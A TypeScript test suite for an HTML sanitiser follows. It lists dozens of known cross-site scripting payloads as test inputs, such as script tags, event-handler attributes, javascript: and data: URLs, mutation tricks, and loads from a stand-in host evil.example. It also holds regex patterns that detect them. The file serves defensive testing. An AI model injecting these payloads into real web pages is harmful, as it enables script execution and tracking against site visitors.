import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitise } from './sanitise.ts';

/** Known ways in which a script gets into a page. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=p><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;text-align:center">x</p>',
  '<div onmouseover="alert(1)" onclick=alert(1)>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/pixel.gif">',
  '<!--><img src=x onerror=alert(1)>-->',
] as const;

const TAGS = new RegExp(
  '^</?(?:h[2-4]|p|div|blockquote|pre|ul|ol|li|hr|br|a|b|strong|i|em|u|s|code|span|su[bp]|img|' +
    'table|thead|tbody|tr|th|td)\\b',
);

/** What must be true of every cleaned text, whatever it was made of. */
function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    expect(tag).toMatch(TAGS);
    expect(tag).not.toMatch(/\son\w+\s*=/i);
    expect(tag).not.toMatch(/(?:java|vb)\s*script\s*:|data:|srcdoc|position|url\(/i);
    expect(tag).not.toMatch(/src="(?!\/[^/])/);
  }
}

describe('cleaning what an operator writes', () => {
  it.each(ATTACKS)('leaves nothing that runs or loads of %s', (attack) => {
    expectHarmless(sanitise(attack));
    expectHarmless(sanitise(`<p>before</p>${attack}<p>after</p>`));
  });

  it('knows an attack when it sees one, so that the checks above can fail', () => {
    const seen = ATTACKS.filter((attack) => {
      try {
        expectHarmless(attack);
        return false;
      } catch {
        return true;
      }
    });
    expect(seen.length).toBeGreaterThan(ATTACKS.length - 4);
  });

  it('leaves no script, whatever the attacks are mixed with', () => {
    const piece = fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 12 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const cleaned = sanitise(pieces.join(''));
        expectHarmless(cleaned);
        expect(sanitise(cleaned)).toBe(cleaned);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    ['paragraphs, headings and lists', '<h2>A</h2><p>b <strong>c</strong></p><ul><li>d</li></ul>'],
    ['alignment', '<p style="text-align:center">x</p>'],
    ['pictures of this site', '<img src="/h5/banners/fair.svg" alt="x" />'],
    ['links to screens', '<a href="#/pages/common/faq">x</a>'],
    ['tables', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'],
  ])('keeps %s', (_what, html) => {
    expect(sanitise(html)).toBe(html);
  });

  it('opens other sites apart from this one, and takes only secure ones', () => {
    expect(sanitise('<a href="https://a.example/x" rel="opener" target="_self">x</a>')).toBe(
      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitise('<a href="http://a.example">x</a>')).not.toContain('href');
    expect(sanitise('<a href="//a.example">x</a>')).not.toContain('href');
  });

  it('makes a first heading a second one, because the screen has the first', () => {
    expect(sanitise('<h1>Title</h1>')).toBe('<h2>Title</h2>');
  });

  it('survives texts that are nested without end', () => {
    const deep = '<div>'.repeat(5_000) + 'x' + '</div>'.repeat(5_000);
    expectHarmless(sanitise(deep));
  });
});
